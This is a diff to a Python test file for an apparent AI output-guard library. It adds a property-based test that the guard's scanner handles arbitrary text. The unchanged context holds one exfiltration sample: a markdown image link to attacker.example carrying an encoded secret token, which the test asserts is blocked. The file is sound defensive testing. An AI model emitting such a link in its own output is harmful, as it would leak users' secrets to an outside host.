@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from aiattest.guard import Action, Channel, Guard, registry
 
@@ -79,3 +81,19 @@ def test_output_leak_and_exfiltration_block(guard: Guard) -> None:
         "Done ![x](https://attacker.example/c?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA)", request
     )
     assert exfil.decision is Action.BLOCK
+
+
+@given(
+    text=st.text(max_size=400),
+    channel=st.sampled_from([Channel.USER, Channel.TOOL, Channel.DOCUMENT]),
+)
+@settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+def test_default_policy_never_fails_closed_on_arbitrary_text(
+    guard: Guard, text: str, channel: Channel
+) -> None:
+    verdict = guard.scan_text(text, channel)
+    assert verdict.failures == ()
+    for f in verdict.findings:
+        assert 0 <= f.start <= f.end <= len(text)
